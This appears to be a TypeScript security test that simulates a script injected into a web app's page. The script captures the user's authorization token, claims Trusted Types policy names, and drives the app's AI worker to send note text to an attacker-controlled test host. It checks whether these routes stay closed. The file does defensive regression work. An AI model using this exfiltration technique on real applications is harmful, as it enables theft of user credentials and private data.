/**
 * A script injected into the page starts the worker that may call any host, and tries to exfiltrate a note with it. Decisions 0006, 0007.
 */
import { NO_AI_CONFIG } from "@satchel/core/model/ai/ai-config.ts";
import { startChatHost } from "@satchel/server/testing/chat-host.ts";
import * as user from "../../e2e/harness/user.ts";
import { type Attack, closed, open } from "../attack.ts";

const OWNER = { email: "owner@example.org", password: "Correct horse 1" };
const POLICIES = ["default", "satchel-html", "ProseMirrorClipboard"];

export const attack: Attack = {
  line: 16,
  title: "the worker of a user's own AI host as a way past the content security policy",
  async run({ startServer, openDevice, defer }) {
    const [saved, thief] = await Promise.all([startChatHost(), startChatHost()]);
    defer(() => saved.close());
    defer(() => thief.close());
    const server = await startServer();
    const { page } = await openDevice();
    await page.goto(server.origin);
    await page.getByRole("button").first().waitFor();
    const taken = await page.evaluate((names) => {
      const factory = (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes;
      return names.filter((name) => {
        try {
          return factory.createPolicy(name, { createHTML: (html: string) => html }) !== undefined;
        } catch {
          return false;
        }
      });
    }, POLICIES);
    await page.reload();

    await user.moveIn(page, server.origin, OWNER);
    const token = new Promise<string>((resolve) =>
      page.on("request", (request) => {
        const right = request.headers().authorization;
        if (request.url().startsWith(`${server.origin}/api/ai/config`) && right?.startsWith("Basic ")) resolve(right.slice(6));
      }),
    );
    await page
      .getByRole("button", { name: /settings/i })
      .first()
      .click();
    await page.getByRole("tab", { name: "AI Settings" }).click();
    await page.getByLabel("URL").fill(saved.url);
    await page.getByRole("button", { name: "Save Configuration" }).click();
    await user.toast(page, "AI configuration saved successfully!").waitFor();

    const ask = async (aiUrl: string): Promise<string> =>
      page.evaluate(
        async ([config, token]) => {
          const kept = await (await fetch("/sw.js")).text();
          const script = /assets\/own-host-worker-[\w-]+\.js/.exec(kept)?.[0];
          if (script === undefined) throw new Error("the worker was not found");
          const worker = new Worker(`/${script}`, { type: "module" });
          const request = { messages: [{ role: "user", content: "the text of a note" }], max_tokens: 9, temperature: 0 };
          return await new Promise<string>((resolve, reject) => {
            worker.onerror = () => reject(new Error("the worker did not start"));
            worker.onmessage = ({ data }) => data.turn === 1 && data.kind !== "progress" && resolve(JSON.stringify(data.value));
            worker.postMessage({ kind: "call", turn: 1, method: "ask", args: [{ token, config, request }], isWatched: true });
          });
        },
        [{ ...NO_AI_CONFIG, aiUrl }, await token] as const,
      );
    const stolen = await ask(thief.url);
    const wanted = await ask(saved.url);
    saved.answer = { kind: "elsewhere", location: thief.url };
    const sentOn = await ask(saved.url);
    if (saved.asked.length !== 2) throw new Error(`the saved host was not reached: ${wanted}`);
    const seen = [
      `a host that was not saved got ${thief.asked.length} requests (${stolen}), with a redirect to it ${sentOn}`,
      `policy names left to take: ${taken.join(", ") || "none"}`,
    ].join("; ");
    return thief.asked.length === 0 && taken.length === 0 ? closed(seen) : open(seen);
  },
};
